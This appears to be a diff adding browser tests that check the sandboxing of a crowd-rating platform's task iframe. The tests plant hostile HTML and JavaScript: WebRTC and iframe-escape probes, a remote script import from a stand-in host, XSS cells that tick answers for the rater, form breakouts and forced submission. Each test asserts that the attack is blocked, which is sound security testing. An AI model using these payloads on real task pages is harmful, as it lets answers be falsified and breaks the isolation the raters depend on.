@@ -149,3 +149,112 @@ def test_crowd_elements_give_the_fields_that_the_platform_gave(browser: Browser,
                 "why": "so",
             }
         ]
+
+
+LEAKING = """
+<input type="hidden" name="found" id="found">
+<script>
+  const found = {};
+  const note = (name, what) => {
+    found[name] = what;
+    document.getElementById("found").value = JSON.stringify(found);
+  };
+  note("rtc", [window.RTCPeerConnection, window.webkitRTCPeerConnection].map((one) => typeof one).join());
+  addEventListener("message", ({ source, data }) => { if (source !== parent) note("heard", data); });
+  const refused = [];
+  document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
+    refused.push(effectiveDirective + " " + blockedURI);
+    note("refused", refused.sort());
+  });
+  // A window of its own, in which nothing was taken away.
+  const blank = document.createElement("iframe");
+  document.documentElement.append(blank);
+  try { note("blank", typeof blank.contentWindow.RTCPeerConnection); }
+  catch (error) { note("blank", error.name); }
+  const own = document.createElement("iframe");
+  own.srcdoc = "<a id=panelistFrame></a>" + document.currentScript.outerHTML;
+  if (parent !== top) parent.postMessage(typeof RTCPeerConnection, "*");
+  else document.documentElement.append(own);
+  const link = document.createElement("a");
+  link.href = "javascript:document.getElementById('found').value = 'ran'";
+  document.documentElement.append(link);
+  link.click();
+  import("https://elsewhere.example/x.js").catch(() => {});
+</script>
+"""
+CELLS = {
+    "script": "<script>onload = () => { document.querySelector('[value=B]').checked = true; };</script>",
+    "handler": "<img src=x onerror=document.querySelector('[value=B]').checked=true>",
+    "control": "<input type=hidden name=best value=B><input type=hidden name=fluency_1 value=3>",
+    "cover": "<label style='position:fixed;inset:0'><input type=radio name=best value=B checked>x</label>",
+    "way out": "</div></form><form id=mturk_form><input name=comment value=cell>",
+}
+
+
+def put_cell(folder: Path, cell: str) -> Path:
+    path = folder / "input.csv"
+    quoted = cell.replace('"', '""')
+    lines = path.read_text("utf-8").splitlines()
+    rows = [line.rpartition(",")[0] + f',"{quoted}seen"' for line in lines[1:]]
+    path.write_text("\n".join([lines[0], *rows]) + "\n", "utf-8")
+    return folder
+
+
+def test_nothing_leaves_the_frame_by_a_connection_between_browsers(browser: Browser, tmp_path: Path) -> None:
+    folder = make_hits(tmp_path, template=TEMPLATE + LEAKING, hits_per_rater="2")
+    with serve_in_thread(folder) as served, open_window(browser, served) as rider:
+        here = rider.join().where()["page"]
+        frame = rider.page.frame_locator("iframe.hit")
+        rider.page.wait_for_timeout(500)
+        fill(frame)
+        frame.locator("#submitButton").click()
+        rider.wait_past(here)
+        found = json.loads(answers(rider)[0]["found"])
+        refused = {"script-src-elem https://elsewhere.example/x.js", "script-src-elem inline"}
+        assert refused <= set(found.pop("refused"))
+        assert found == {"rtc": "undefined,undefined", "blank": "SecurityError"}
+
+
+@pytest.mark.parametrize("name", sorted(CELLS))
+def test_no_cell_answers_for_the_rater(browser: Browser, tmp_path: Path, name: str) -> None:
+    folder = put_cell(make_hits(tmp_path, hits_per_rater="2"), CELLS[name])
+    with serve_in_thread(folder) as served, open_window(browser, served) as rider:
+        here = rider.join().where()["page"]
+        frame = rider.page.frame_locator("iframe.hit")
+        assert frame.locator("#b").inner_text() == ("xseen" if name == "cover" else "seen")
+        assert frame.locator("[name=best]:checked").count() == 0
+        frame.get_by_label("A", exact=True).check()
+        for field in ("fluency_1", "fluency_2"):
+            frame.locator(f"select[name={field}]").select_option("1")
+        frame.locator("#submitButton").click()
+        rider.wait_past(here)
+        assert answers(rider)[0] == {"best": "A", "fluency_1": "1", "fluency_2": "1", "comment": ""}
+
+
+def test_a_form_that_nobody_touched_is_not_taken(browser: Browser, tmp_path: Path) -> None:
+    hasty = "<script>addEventListener('load', () => document.querySelector('form').submit());</script>"
+    folder = make_hits(tmp_path, template=TEMPLATE + hasty)
+    with serve_in_thread(folder) as served, open_window(browser, served) as rider:
+        rider.join()
+        rider.page.wait_for_timeout(500)
+        assert rider.where()["page"] == "1-1"
+        assert answers(rider) == []
+
+
+def test_the_frame_takes_no_place_and_comes_back_when_it_strays(browser: Browser, tmp_path: Path) -> None:
+    straying = "<a id=join href=/join>Join</a><a id=away href=https://elsewhere.example/>Away</a>"
+    folder = make_hits(tmp_path, template=TEMPLATE + straying)
+    with serve_in_thread(folder) as served, open_window(browser, served) as rider:
+        rider.join()
+        places = len(served.store.snapshot().visits)
+        frame = rider.page.frame_locator("iframe.hit")
+        for link in ("#join", "#away"):
+            frame.locator(link).evaluate("(link) => { window.old = true; link.click(); }")
+            rider.page.wait_for_timeout(300)
+            frame.locator("#submitButton").wait_for()
+            assert frame.locator("body").evaluate("() => window.old") is None
+        assert len(served.store.snapshot().visits) == places
+        with served.client() as client:
+            refused = client.get("/join", headers={"Sec-Fetch-Dest": "iframe"})
+            assert refused.status_code == 403
+        assert len(served.store.snapshot().visits) == places
